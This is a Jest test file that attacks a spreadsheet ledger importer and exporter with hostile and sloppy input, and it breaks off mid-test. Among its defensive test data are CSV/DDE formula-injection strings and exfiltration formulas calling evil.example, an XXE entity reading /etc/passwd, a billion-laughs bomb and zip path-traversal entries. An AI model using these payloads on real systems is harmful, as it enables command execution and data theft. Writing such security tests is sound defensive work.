/**
 * Input attack — what held up. An independent tester's own corpus (sloppy clerks and attackers) against the import
 * and output paths; every test here passes on the current code and pins a promise of docs/ (import.md, cli.md,
 * briefing.md, security.md). The defects found are in input.defects.test.ts.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import fc from "fast-check";
import Papa from "papaparse";
import { XMLValidator } from "fast-xml-parser";
import { buildBriefing, briefingRows } from "../../src/briefing/build";
import { briefingLayout, COL } from "../../src/briefing/formulas";
import { briefingText } from "../../src/briefing/text";
import type { Briefing } from "../../src/briefing/types";
import { writeBriefingSheet } from "../../src/excel/briefing-sheet";
import { defaultLoaders, refreshSource } from "../../src/excel/refresh-all";
import { writeDataset } from "../../src/excel/sheets";
import { briefingXlsx, type SanitizedCell } from "../../src/export/briefing-xlsx";
import { csvNumber, recalculateWithLibreOffice } from "../../src/export/libreoffice";
import { libreOffice, testWith } from "../support/tools";
import { importTable, importUrl } from "../../src/import/bytes";
import type { ImportIssue, ImportResult } from "../../src/import/types";
import { createBackendsNow } from "../../src/taskpane/backends-impl";
import { createWorkbookServices } from "../../src/taskpane/workbook-services";
import { investMetadata } from "../../packages/test-support/src/invest-functions";
import { createSimulatedExcel, type SimulatedExcel } from "../../packages/excel-sim/src";
import {
  brief,
  concat,
  failure,
  imp,
  LEDGER_HEADER_ROW,
  legacyEncode,
  makeZip,
  num,
  sheetXml,
  str,
  tempDir,
  utf16le,
  utf8,
  validateCli,
  xlsx,
} from "./input-kit";

jest.setTimeout(180_000);

const tmp = tempDir("attack-input-held-");
afterAll(() => tmp.remove());

const letters = (c: number): string =>
  (c < 26 ? "" : letters(Math.floor(c / 26) - 1)) + String.fromCharCode(65 + (c % 26));
const accounted = (r: ImportResult) => r.summary.accepted + r.summary.rejected + (r.summary.skipped ?? 0);

// -------------------------------------------------------------------------------------------------- corpus
/** Formula payloads: DDE, exfiltration, plain arithmetic. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"查看")',
  '=WEBSERVICE("http://evil.example/"&B2)',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "=1+1",
  "=-1",
  "@A1",
  "+A1",
  "-A1",
  "=",
  "+",
  "-",
  "@",
];
/** What a clerk's tools put in front of a value: whitespace of every kind, invisible marks, a combining accent. */
const PREFIXES = [
  "",
  " ",
  "  ",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\u00A0",
  "\u3000",
  "\u2003",
  "\u200B",
  "\u200D",
  "\u200F",
  "\u2060",
  "\uFEFF",
  "\u2028",
  "\u0301",
];
/** Unicode look-alikes of = + - @. */
const LOOKALIKES = ["＝", "﹦", "⁼", "₌", "＋", "﹢", "⁺", "₊", "−", "﹣", "－", "⁻", "₋", "‐", "＠", "﹫"];
const HOSTILE_TEXT = [
  ...PAYLOADS.flatMap((p, i) => PREFIXES.filter((_, k) => (k + i) % 3 === 0).map((x) => x + p)),
  ...LOOKALIKES.map((l, i) => `${PREFIXES[i % PREFIXES.length]}${l}cmd|' /C calc'!A0`),
  "'=1+1",
  "''",
  "'",
  '"=1+1"',
  "=1+1\n=2+2",
  "标题\n=1+1",
  "备注\t=1",
  "a\u0000b".replace("\u0000", ""),
];
/** docs/security.md's text rule: kept verbatim when its first visible character is a trigger behind whitespace, else trimmed. */
const landed = (s: string) => (/^[\s\p{Zs}\u200B-\u200D\u2060\uFEFF]*[=+\-@＝＋－＠]/u.test(s) ? s : s.trim());
const MARKERS = /cmd\||calc|notepad|HYPERLINK|WEBSERVICE|IMPORTXML|DDE\(|evil\.example/i;

// ---------------------------------------------------------------------------------------------- 1. no formula
describe("1. no input becomes a formula; text lands unaltered (sheets of the simulated Excel, exported xlsx)", () => {
  let sim: SimulatedExcel;
  let ledger: ImportResult;
  let funds: ImportResult;
  let targets: ImportResult;
  let issues: ImportIssue[];
  const briefings: Briefing[] = [];
  const text = (i: number) => HOSTILE_TEXT[i % HOSTILE_TEXT.length];
  const regions = ["西宁市", "海东市", "−西宁", "@海东", "﹣海北"];
  const ledgerRows = (v: 1 | 2) =>
    HOSTILE_TEXT.map((_, i) => ({
      // ids and names carry payloads too; a header is a payload (an unknown column)
      项目编号: `${text(i + 3).slice(0, 40)}#${i}`,
      项目名称: text(i),
      所属地区: regions[i % regions.length],
      园区: text(i + 1),
      产业类别: text(i + 2),
      投资方: text(i + 4),
      投资来源地: text(i + 5),
      签约日期: `2025-0${(i % 3) + 1}-15`,
      "签约金额（万元）": 100 + i,
      备注: text(i + (v === 1 ? 6 : 7)),
      来源: text(i + 8),
      '=HYPERLINK("http://evil.example","列")': text(i + 9),
    })).filter((_, i) => v === 1 || i % 5 !== 0);

  beforeAll(async () => {
    sim = createSimulatedExcel({ sheets: ["Sheet1"], functionsMetadata: await investMetadata() }).install();
    ledger = await imp(Papa.unparse(ledgerRows(1)), { kind: "ledger" });
    funds = await imp(
      Papa.unparse(
        regions.map((r, k) => ({
          项目编号: `${text(k)}#${k}`,
          所属地区: r,
          到位日期: "2025-02-20",
          到位金额: k + 1,
          来源: text(k + 1),
        })),
      ),
      { kind: "funds" },
    );
    targets = await imp(
      Papa.unparse(
        regions.map((r, k) => ({ 年份: 2025, 所属地区: r, 指标: "签约金额", 目标值: 10 + k, 推算依据: text(k + 2) })),
      ),
      { kind: "targets" },
    );
    for (const r of [ledger, funds, targets])
      await writeDataset(r.kind, r, {
        type: "url",
        name: `https://bureau.example/${r.kind}.csv`,
        url: `https://bureau.example/${r.kind}.csv`,
      });
    const second = await imp(Papa.unparse(ledgerRows(2)), { kind: "ledger" });
    await refreshSource("ledger", { loaders: { ...defaultLoaders, url: async () => second } });
    issues = [
      ...ledger.issues,
      ...HOSTILE_TEXT.slice(0, 30).map((t, i): ImportIssue => ({
        file: t,
        row: i + 1,
        column: text(i + 1),
        message: text(i + 2),
        message_en: text(i + 3),
        severity: "warning",
      })),
    ];
    const services = createWorkbookServices({ host: "excel", backends: createBackendsNow() });
    await services.writeIssues(issues, "zh-CN");
    await services.writeIssues(issues, "en-US");
    const input = { records: second.records, funds: funds.funds, targets: targets.targets };
    for (const [period, opts] of [
      ["2025Q1", { language: "zh-CN" }],
      ["2025H1", { language: "en-US", portable: true }],
      ["2025Q2", { language: "zh-CN", valuesOnly: true }],
      ["2025Q3", { language: "en-US" }],
    ] as const) {
      const b = buildBriefing(input, { period });
      briefings.push(b);
      await writeBriefingSheet(b, { ...opts, charts: true });
    }
  });
  afterAll(() => sim.uninstall());

  test("the corpus imports: every row accepted, the payload column kept as an unknown column", () => {
    expect(ledger.summary).toMatchObject({ rows: HOSTILE_TEXT.length, accepted: HOSTILE_TEXT.length, rejected: 0 });
    expect(ledger.headers).toContain('=HYPERLINK("http://evil.example","列")');
  });

  test("no cell of any sheet holds a formula carrying input; data, archive, change log and issues sheets hold no formula at all", () => {
    const found: string[] = [];
    let cells = 0;
    for (const sheet of sim.workbook.sheetNames()) {
      const grid = sim.workbook.formulas(sheet);
      grid.forEach((row, r) =>
        row.forEach((v, c) => {
          cells++;
          if (typeof v !== "string" || !v.startsWith("=")) return;
          const addr = `${letters(c)}${r + 1}`;
          const f = sim.workbook.cell(sheet, addr).formula;
          if (!f) return;
          if (!sheet.startsWith("成绩单") || MARKERS.test(f) || sheet.endsWith("数值"))
            found.push(`${sheet}!${addr}: ${f}`);
        }),
      );
    }
    expect(found).toEqual([]);
    expect(cells).toBeGreaterThan(3000);
  });

  test("every hostile text lands as docs/security.md says (verbatim behind a trigger, else trimmed) in the ledger, archive and change log", () => {
    const cols = sim.workbook.table("Ledger")!.columns;
    const rows = new Map(sim.workbook.tableValues("Ledger").map((r) => [r[cols.indexOf("项目编号")], r]));
    let checked = 0;
    for (const rec of ledgerRows(2)) {
      const row = rows.get(landed(rec.项目编号));
      expect(row).toBeDefined();
      for (const f of ["项目名称", "园区", "产业类别", "投资方", "投资来源地", "备注", "来源"] as const) {
        expect([f, row![cols.indexOf(f)]]).toEqual([f, landed(rec[f])]);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(400);
    const archived = sim.workbook.tableValues("Archive").flat();
    for (const rec of ledgerRows(1).filter((_, i) => i % 5 === 0)) expect(archived).toContain(landed(rec.项目名称));
    const log = sim.workbook.tableValues("ChangeLog").flat();
    for (const rec of ledgerRows(2).slice(0, 10)) expect(log).toContain(landed(rec.备注));
  });

  test("the issues sheets hold file, column and message exactly as given, in both languages", () => {
    for (const [sheet, key] of [
      ["导入问题", "message"],
      ["Import issues", "message_en"],
    ] as const) {
      const v = sim.workbook.values(sheet);
      issues.forEach((i, k) =>
        expect([v[k + 1][0], v[k + 1][2], v[k + 1][4]]).toEqual([i.file, i.column ?? "", i[key]]),
      );
    }
  });

  test.each(["portable", "live", "values"] as const)(
    "the exported xlsx (%s, both languages): data cells are strings, formulas carry no input",
    async (mode) => {
      for (const language of ["zh-CN", "en-US"] as const) {
        const b = briefings[0];
        const bytes = await briefingXlsx({ records: ledger.records, funds: funds.funds, targets: targets.targets }, b, {
          mode,
          language,
        });
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as unknown as ArrayBuffer);
        const bad: string[] = [];
        wb.eachSheet((ws) =>
          ws.eachRow((row) =>
            row.eachCell((c) => {
              const f = c.formula;
              if (!f) return;
              if (!ws.name.startsWith("成绩单") || mode === "values" || MARKERS.test(f))
                bad.push(`${ws.name}!${c.address}: ${f}`);
            }),
          ),
        );
        expect(bad).toEqual([]);
        const ledgerSheet = wb.getWorksheet("台账")!;
        const names = new Set<unknown>();
        ledgerSheet.eachRow((row, n) => n > 1 && names.add(row.getCell(2).value));
        // Text holding a CR comes back as LF: a defect of its own (input.defects.test.ts, class P).
        for (const rec of ledger.records.filter((x) => !x.name.includes("\r")))
          expect([rec.name, names.has(rec.name)]).toEqual([rec.name, true]);
      }
    },
  );
});

// ------------------------------------------------------------------------------------------- 2. row accounting
describe("2. every data row is accepted, rejected or skipped-and-reported (a sloppy clerk's ledger)", () => {
  const CLERK = [
    "2025年一季度招商引资项目台账",
    "填报单位：某某开发区招商局",
    "单位：万元",
    "",
    "序号,项目编号,项目名称,所属地区,签约日期,签约金额,开工日期,项目阶段,备注",
    '1,QH-1,光伏组件,西宁市,2025.3,"3,500",,已签约,',
    "2,QH-2,储能电站,西宁市,2025年2月19日,１２００,2025-03-01,开工建设,",
    '3,QH-3,钒电池,海东市, 45747 ,800万,,在谈,"多行\n备注"',
    ",,,,,,,,",
    "4,QH-4,锂电材料,海东市,25/3/31,1.2亿元（含税）,,签约,",
    "5,QH-5,,海东市,2025-03-05,100,,签约,缺名称",
    "6,QH-6,氢能,0012,2025-03-05,100,,签约,地区像数字",
    "序号,项目编号,项目名称,所属地区,签约日期,签约金额,开工日期,项目阶段,备注",
    '7,QH-7,数据中心,西宁市,2025年第一季度,"1,234.5,678",,投产,',
    "8,qh-1,重复编号,西宁市,2025-03-01,1,,签约,",
    ',,小  计,,,"5,701",,,',
    "9,QH-9,合计收入分成项目,西宁市,2025-03-09,9,,签约,名字里有合计",
    '合 计,,,,,"5,710",,,',
    "注：金额单位为万元，数据截至3月31日。",
    "填表人：张三",
  ].join("\n");

  test("row accounting: 14 non-blank rows below the header = 6 accepted + 3 rejected + 5 skipped", async () => {
    const r = await imp(CLERK);
    expect(accounted(r)).toBe(14);
    expect(r.summary).toMatchObject({ rows: 9, accepted: 6, rejected: 3, skipped: 5 });
  });

  test("each problem is reported with its row, its column as written and both languages", async () => {
    const r = await imp(CLERK);
    const by = (row: number) => r.issues.filter((i) => i.row === row);
    for (const i of r.issues) {
      expect(i.file).toBe("台账.csv");
      expect(i.message.length).toBeGreaterThan(5);
      expect(i.message_en).toMatch(/[a-z]/);
    }
    expect(by(10).map((i) => i.column)).toEqual(expect.arrayContaining(["签约日期", "签约金额"]));
    expect(by(11).some((i) => i.severity === "error" && i.column === "项目名称")).toBe(true);
    expect(by(12).some((i) => i.code === "region_ambiguous")).toBe(true);
    expect(by(13).some((i) => i.code === "header_repeated")).toBe(true);
    expect(by(14).some((i) => i.column === "签约金额")).toBe(true); // 1,234.5,678
    expect(by(15).some((i) => i.severity === "error" && /qh-1 duplicates row 6/.test(i.message_en))).toBe(true);
    expect(by(16).map((i) => i.code)).toEqual(["total_row"]); // 小计 5,701 万元: every amount read above it, rejected rows too
    expect(by(18).map((i) => i.code)).toEqual(["total_row"]);
    expect(by(19).map((i) => i.code)).toEqual(["note_row"]);
    expect(by(20).map((i) => i.code)).toEqual(["note_row"]);
  });

  test("values: 万元 from the unit line, 3,500 and full-width 1200, 2025.3 as a month, a spaced serial with a warning, a 合计 in a name is data", async () => {
    const r = await imp(CLERK);
    const rec = new Map(r.records.map((x) => [x.id, x]));
    expect(rec.get("QH-1")).toMatchObject({ signed_amount: 0.35, signed_date: "2025-03", stage: "签约" });
    expect(rec.get("QH-2")).toMatchObject({
      signed_amount: 0.12,
      signed_date: "2025-02-19",
      started_date: "2025-03-01",
      stage: "开工",
    });
    expect(rec.get("QH-3")).toMatchObject({ signed_amount: 0.08, signed_date: "2025-03-31", notes: "多行\n备注" });
    expect(rec.get("QH-4")).toMatchObject({ signed_amount: null, signed_date: null });
    expect(rec.get("QH-9")?.name).toBe("合计收入分成项目");
    expect(r.issues.some((i) => i.row === 8 && /serial/.test(i.message_en))).toBe(true);
  });

  test("property: random ledgers with blank, total, note, repeated-header and broken rows keep the invariant", async () => {
    const kinds = [
      "ok",
      "blank",
      "total",
      "subtotal",
      "note",
      "header",
      "noname",
      "badregion",
      "dupid",
      "baddate",
    ] as const;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...kinds), { minLength: 1, maxLength: 40 }),
        fc.constantFrom(",", ";", "\t"),
        fc.constantFrom("\n", "\r\n"),
        async (rows, d, nl) => {
          const head = ["项目编号", "项目名称", "所属地区", "签约日期", "签约金额"];
          const lines = [head.join(d)];
          let nonBlank = 0;
          rows.forEach((k, i) => {
            const id = `P${i}`;
            const line = {
              ok: [id, `项目${i}`, "西宁市", "2025-02-01", `${i}`],
              blank: ["", "", "", "", ""],
              total: ["", "合计", "", "", "9"],
              subtotal: ["小计", "", "", "", "3"],
              note: ["注：单位万元", "", "", "", ""],
              header: head,
              noname: [id, "", "西宁市", "", "1"],
              badregion: [id, `项目${i}`, "TRUE", "", "1"],
              dupid: ["P0", `重复${i}`, "西宁市", "", "1"],
              baddate: [id, `项目${i}`, "海东市", "2025-02-30", "1"],
            }[k];
            if (k !== "blank") nonBlank++;
            lines.push(line.join(d));
          });
          const r = await imp(lines.join(nl) + nl);
          expect(accounted(r)).toBe(nonBlank);
        },
      ),
      { numRuns: 60 },
    );
  });
});

// ------------------------------------------------------------------------------------------- 3. totals
describe("3. total rows are recognised by structure and checked", () => {
  test.each([["合  计"], ["总计（万元）"], ["小计："], ["Grand Total"], ["本页合计"], ["TOTAL:"], ["合计(16项)"]])(
    "%s standing alone in a row without id, name or date is skipped and checked",
    async (label) => {
      const r = await imp(
        `项目编号,项目名称,所属地区,签约日期,签约金额（万元）\nP1,光伏,西宁市,2025-01-05,100\nP2,储能,西宁市,2025-01-06,250.5\n,${label},,,350.5\n`,
      );
      expect(r.summary).toMatchObject({ accepted: 2, skipped: 1 });
      expect(r.issues.map((i) => i.code)).toEqual(["total_row"]);
    },
  );

  test("a total that does not match the rows above is reported as a mismatch with both numbers", async () => {
    const r = await imp(
      "项目编号,项目名称,所属地区,签约日期,签约金额（万元）\nP1,光伏,西宁市,2025-01-05,100\nP2,储能,西宁市,2025-01-06,250.5\n合计,,,,350.6\n",
    );
    const i = r.issues.find((x) => x.code === "total_mismatch")!;
    expect(i.message).toMatch(/350\.6/);
    expect(i.message).toMatch(/350\.5/);
  });

  test.each([
    ["Total", "P9"],
    ["合计", "P9"],
    ["SUM光伏", ""],
    ["合计收入分成项目", ""],
  ])("a project called %s with an id or a date is data", async (name, id) => {
    const r = await imp(`项目编号,项目名称,所属地区,签约日期,签约金额\n${id},${name},西宁市,2025-01-05,1\n`);
    expect(r.records.map((x) => x.name)).toEqual([name]);
  });
});

// ------------------------------------------------------------------------------------------- 4. numbers & dates
describe("4. numbers and dates", () => {
  test.each([
    ["3,500万", 0.35],
    ["１２，３４５万元", 1.2345],
    ["3 500 000元", 0.035],
    ["1\u2009234", 1234],
    ["¥3,500万", 0.35],
    ["0.35亿", 0.35],
    ["3.5千万", 0.35],
    ["12,345,678.9万元", 1234.56789],
    ["1e3万", 0.1],
    ["０．５亿", 0.5],
  ])("%s is %d 亿元", async (cell, want) => {
    const r = await imp(`项目名称,所属地区,签约金额\n光伏,西宁市,"${cell}"\n`);
    expect(r.records[0].signed_amount).toBe(want);
  });

  test.each([
    "1,234.5,678",
    "1,23",
    "12 34",
    "35,00",
    "1,,234",
    ",123",
    "1'234",
    "1.2.3",
    "1_000",
    "٣٥٠٠",
    "1.2亿元（含税）",
    "3500万元整",
    "NaN",
    "Infinity",
    "1e400",
  ])("%s is refused with a message at its row and column", async (cell) => {
    const r = await imp(`项目名称,所属地区,签约金额\n光伏,西宁市,"${cell}"\n`);
    expect(r.records[0].signed_amount).toBeNull();
    expect(r.issues).toEqual([expect.objectContaining({ row: 2, column: "签约金额", severity: "warning" })]);
  });

  test.each(["-5", "(3)", "−5"])("a negative amount %s is refused (never summed)", async (cell) => {
    const r = await imp(`项目名称,所属地区,签约金额\n光伏,西宁市,${cell}\n`);
    expect(r.records[0].signed_amount).toBeNull();
    expect(r.issues.length).toBe(1);
  });

  test.each([
    ["2025.3", "2025-03"],
    ["2025年3月份", "2025-03"],
    ["２０２５年３月３１日", "2025-03-31"],
    ["20250331", "2025-03-31"],
    [" 45747 ", "2025-03-31"],
  ])("%s reads as %s", async (cell, want) => {
    const r = await imp(`项目名称,所属地区,签约日期\n光伏,西宁市,"${cell}"\n`);
    expect(r.records[0].signed_date).toBe(want);
  });

  test.each([
    "25/3/31",
    "2025年第一季度",
    "三月",
    "03/31/2025",
    "31.03.2025",
    "2025-02-29",
    "1900-02-29",
    "45 747",
    "2025‐03‐31",
  ])("%s is reported, not guessed", async (cell) => {
    const r = await imp(`项目名称,所属地区,签约日期\n光伏,西宁市,"${cell}"\n`);
    expect(r.records[0].signed_date).toBeNull();
    expect(r.issues).toEqual([expect.objectContaining({ row: 2, column: "签约日期" })]);
  });

  test("xlsx date cells around Excel's phantom 1900-02-29 (serials 59, 60, 61) and a real one", async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("台账");
    ws.addRow(["项目名称", "所属地区", "签约日期"]);
    for (const [name, serial] of [
      ["a", 59],
      ["b", 60],
      ["c", 61],
      ["d", 45747],
    ] as const) {
      const row = ws.addRow([name, "西宁市", serial]);
      row.getCell(3).numFmt = "yyyy-mm-dd";
    }
    const bytes = new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
    const r = await imp(bytes, { fileName: "台账.xlsx" });
    expect(r.records.map((x) => [x.name, x.signed_date])).toEqual([
      ["a", "1900-02-28"],
      ["b", null],
      ["c", "1900-03-01"],
      ["d", "2025-03-31"],
    ]);
    expect(r.issues.map((i) => [i.row, i.code])).toEqual([[3, "date_1900_02_29"]]);
  });
});

// ------------------------------------------------------------------------------------------- 5. sums
describe("5. sums are exact and independent of row order", () => {
  const AMOUNTS = [
    "0.1",
    "0.2",
    "0.3",
    "3500.7万",
    "1234.5678万",
    "0.0001万",
    "900719925474.0993亿",
    "1e-7",
    "12,345.6789万元",
    "0.7",
    "1e16",
    "1",
    "-0",
  ];
  test("property: any order of the same ledger rows gives the same totals to the last digit, CSV and JSON alike", async () => {
    const rows = AMOUNTS.map((a, i) => ({
      项目编号: `P${i}`,
      项目名称: `项目${i}`,
      所属地区: i % 2 ? "西宁市" : "海东市",
      签约日期: "2025-02-01",
      签约金额: a,
    }));
    const totals = async (order: number[], json: boolean) => {
      const rs = order.map((k) => rows[k]);
      const r = json ? await imp(JSON.stringify(rs), { fileName: "台账.json" }) : await imp(Papa.unparse(rs));
      return briefingRows(buildBriefing({ records: r.records }, { period: "2025Q1" }))
        .filter((x) => x.metric === "signed_amount")
        .map((x) => [x.region, x.actual]);
    };
    const base = await totals(
      rows.map((_, i) => i),
      false,
    );
    await fc.assert(
      fc.asyncProperty(
        fc.shuffledSubarray(
          rows.map((_, i) => i),
          { minLength: rows.length, maxLength: rows.length },
        ),
        fc.boolean(),
        async (order, json) => {
          expect(await totals(order, json)).toEqual(base);
        },
      ),
      { numRuns: 40 },
    );
  });
});

// ------------------------------------------------------------------------------------------- 6. encodings & CSV
describe("6. encodings and CSV structure", () => {
  const TEXT = "项目编号,项目名称,所属地区,签约金额\nP1,光伏𠀀,西宁市,1\n";
  test.each([
    ["UTF-8", utf8(TEXT)],
    ["UTF-8 with BOM", concat(new Uint8Array([0xef, 0xbb, 0xbf]), utf8(TEXT))],
    ["UTF-16LE with BOM", concat(new Uint8Array([0xff, 0xfe]), utf16le(TEXT))],
    [
      "GB18030 with a 4-byte sequence (𠀀 = 95 32 82 36)",
      concat(
        legacyEncode("gbk", "项目编号,项目名称,所属地区,签约金额\nP1,光伏"),
        new Uint8Array([0x95, 0x32, 0x82, 0x36]),
        legacyEncode("gbk", ",西宁市,1\n"),
      ),
    ],
  ])("%s", async (_, bytes) => {
    const r = await imp(bytes);
    expect(r.records.map((x) => [x.name, x.region])).toEqual([["光伏𠀀", "西宁市"]]);
    expect(r.issues).toEqual([]);
  });

  test("a GBK file whose only Chinese is in the last row is still GBK (decided from the whole file)", async () => {
    let body = "id,name,region,amount\n";
    for (let i = 0; i < 5000; i++) body += `P${i},project ${i},Xining,1\n`;
    const r = await imp(concat(utf8(body), legacyEncode("gbk", "Q1,光伏,西宁市,1\n")));
    expect(r.records.at(-1)).toMatchObject({ name: "光伏", region: "西宁市" });
    expect(r.issues).toEqual([]);
  });

  test("a UTF-16LE file without BOM is refused with a message (never read as mojibake)", async () => {
    const f = await failure(imp(utf16le(TEXT)));
    expect(f?.code).toBe("NOT_TEXT");
  });

  test.each([
    ["semicolon", ";"],
    ["tab", "\t"],
    ["pipe", "|"],
  ])("delimiter: %s", async (_, d) => {
    const r = await imp(
      `项目编号${d}项目名称${d}所属地区${d}签约金额\nP1${d}光伏,二期${d}西宁市${d}1,200\n`
        .replace("光伏,二期", d === ";" ? "光伏,二期" : "光伏，二期")
        .replace("1,200", d === ";" ? "1,200" : "1200"),
    );
    expect(r.records[0]).toMatchObject({ id: "P1", region: "西宁市", signed_amount: 1200 });
  });

  test("mixed CRLF and LF line ends, a quoted cell holding CRLF and a delimiter", async () => {
    const r = await imp(
      '项目编号,项目名称,所属地区,备注\r\nP1,光伏,西宁市,"第一行\r\n第二行,续"\nP2,储能,海东市,x\r\nP3,钒,海东市,y\n',
    );
    expect(r.records.map((x) => x.id)).toEqual(["P1", "P2", "P3"]);
    expect(r.records[0].notes).toBe("第一行\r\n第二行,续");
  });

  test("a stray quote inside an unquoted cell is text; a quote closed early is reported", async () => {
    const a = await imp('项目名称,所属地区\n光伏"二期,西宁市\n');
    expect(a.records[0].name).toBe('光伏"二期');
    const b = await imp('项目名称,所属地区\n"光伏"二期,西宁市\n');
    expect(b.issues.some((i) => i.row === 2)).toBe(true);
  });

  test("one row of 1,000,000 empty cells is a blank row, skipped quickly", async () => {
    const t0 = Date.now();
    const r = await imp("项目名称,所属地区\n光伏,西宁市\n" + ",".repeat(1_000_000) + "\n");
    expect(r.summary).toMatchObject({ rows: 1, accepted: 1 });
    expect(Date.now() - t0).toBeLessThan(15_000); // generous: the machine is shared
  });

  test("10,000 unknown columns: each reported once, the row imported", async () => {
    const cols = Array.from({ length: 10_000 }, (_, i) => `自定义${i}`);
    const r = await imp(`项目名称,所属地区,${cols.join(",")}\n光伏,西宁市,${cols.map((_, i) => i).join(",")}\n`);
    expect(r.summary.accepted).toBe(1);
    expect(r.issues.length).toBe(10_000);
    expect(Object.keys(r.extras![0].values).length).toBe(10_000);
  });
});

// ------------------------------------------------------------------------------------------- 7. JSON
describe("7. JSON", () => {
  const json = (s: string, kind?: "ledger") => imp(s, { fileName: "台账.json", kind });
  test("a document nested 200,000 deep is an ImportError, not a crash", async () => {
    const f = await failure(json("[".repeat(200_000) + "]".repeat(200_000)));
    expect(f?.code).toMatch(/^(NO_HEADER|BAD_JSON|EMPTY)$/);
  });
  test("items that are not objects are each rejected at their index", async () => {
    const r = await json('[{"项目名称":"光伏","所属地区":"西宁市"},null,5,"x",[1],true]');
    expect(r.summary).toMatchObject({ rows: 6, accepted: 1, rejected: 5 });
    expect(r.issues.map((i) => i.row)).toEqual([2, 3, 4, 5, 6]);
  });
  test("huge and odd numbers: 1e400 and -5 reported; 20250331 a date; a 5-digit serial a date", async () => {
    const r = await json(
      '[{"项目名称":"甲","所属地区":"西宁市","签约金额":1e400},{"项目名称":"乙","所属地区":"西宁市","签约金额":-5},{"项目名称":"丙","所属地区":"西宁市","签约日期":20250331},{"项目名称":"丁","所属地区":"西宁市","签约日期":45747}]',
    );
    expect(r.records.map((x) => [x.signed_amount, x.signed_date])).toEqual([
      [null, null],
      [null, null],
      [null, "2025-03-31"],
      [null, "2025-03-31"],
    ]);
    expect(r.issues.map((i) => i.row)).toEqual([1, 2]);
  });
  test.each(['{"records": "x"}', '{"a": 1}', "42", '"text"', "[,]", "{"])(
    "%s is BAD_JSON (or EMPTY), never INTERNAL",
    async (doc) => {
      const f = await failure(json(doc));
      expect(f?.code).toMatch(/^(BAD_JSON|EMPTY|NO_HEADER)$/);
    },
  );
  test("prototype words as values and as keys: constructor / toString / hasOwnProperty are unknown words, never Object's functions", async () => {
    const r = await json(
      '[{"项目名称":"constructor","所属地区":"toString","项目阶段":"__proto__","企业类型":"hasOwnProperty","toString":"x","valueOf":"y"}]',
    );
    expect(r.records[0]).toMatchObject({ name: "constructor", region: "toString", stage: null, investor_type: null });
    expect(r.issues.filter((i) => i.column === "项目阶段" || i.column === "企业类型").length).toBe(2);
  });
});

// ------------------------------------------------------------------------------------------- 8. xlsx
describe("8. xlsx: hostile packages", () => {
  const rows2 = sheetXml(
    `${LEDGER_HEADER_ROW}<row r="2">${str("A2", "光伏")}${str("B2", "西宁市")}${num("C2", 1)}</row>`,
  );
  const book = (sheet: string, o: Parameters<typeof xlsx>[1] = {}) => imp(xlsx(sheet, o), { fileName: "台账.xlsx" });

  test("an external entity (XXE) is not resolved: refused, /etc/passwd never read into a cell", async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${LEDGER_HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is><t>&x;</t></is></c>${str("B2", "西宁市")}</row></sheetData></worksheet>`;
    const r = await book(xxe).catch((e) => e);
    expect(JSON.stringify(r)).not.toMatch(/root:/);
    expect(r.code).toBe("XLSX_UNREADABLE");
  });

  test("billion laughs (internal entities) is refused at once", async () => {
    let ents = '<!ENTITY a0 "ha">';
    for (let i = 1; i < 12; i++) ents += `<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`;
    const t0 = Date.now();
    const f = await failure(
      book(
        `<?xml version="1.0"?><!DOCTYPE w [${ents}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${LEDGER_HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is><t>&a11;</t></is></c></row></sheetData></worksheet>`,
      ),
    );
    expect(f?.code).toBe("XLSX_UNREADABLE");
    expect(Date.now() - t0).toBeLessThan(10_000);
  });

  test("zip entries named ../../x, /tmp/x, xl/../../evil.xml: ignored, nothing written outside", async () => {
    const marker = path.join(os.tmpdir(), `attack-input-traversal-${process.pid}.txt`);
    const r = await book(rows2, {
      extra: [
        { name: `../../../../..${marker}`, data: "x" },
        { name: marker, data: "y" },
        { name: "xl/../../evil.xml", data: "<x/>" },
      ],
    });
    expect(r.records.map((x) => x.name)).toEqual(["光伏"]);
    expect(fs.existsSync(marker)).toBe(false);
  });

  test("encrypted entries are refused with a message saying to remove the password", async () => {
    const f = await failure(
      imp(
        makeZip([
          { name: "[Content_Types].xml", data: "<Types/>", flags: 1 },
          { name: "xl/workbook.xml", data: "<workbook/>", flags: 1 },
        ]),
        { fileName: "台账.xlsx" },
      ),
    );
    expect(f).toMatchObject({ code: "XLSX_UNREADABLE" });
    expect((f as { message_en?: string }).message_en).toMatch(/password/);
  });

  test("a ZIP64 package (end records in ZIP64 form) reads as usual", async () => {
    const r = await book(rows2, { zip64: true });
    expect(r.records.map((x) => x.name)).toEqual(["光伏"]);
  });

  test("workbook.xml pointing to a sheet part that is not in the package: an ImportError, not INTERNAL", async () => {
    const f = await failure(book(rows2, { relTarget: "worksheets/sheet9.xml", sheetPart: "xl/worksheets/sheetX.xml" }));
    expect(f?.code).toMatch(/^(EMPTY|XLSX_UNREADABLE|NO_HEADER)$/);
  });

  test("not a zip: a truncated package, a zip of garbage, an HTML page named .xlsx — ImportErrors", async () => {
    const good = xlsx(rows2);
    for (const bytes of [
      good.subarray(0, good.length - 30),
      makeZip([{ name: "a.txt", data: "hello" }]),
      utf8("<!DOCTYPE html><html><body>404</body></html>"),
    ]) {
      const f = await failure(imp(bytes, { fileName: "台账.xlsx" }));
      expect(f?.code).toMatch(/^(XLSX_UNREADABLE|EMPTY|NO_HEADER|NOT_TEXT)$/);
    }
  });

  test("formula cells without a cached value in required, optional and amount columns are errors naming row, column, formula", async () => {
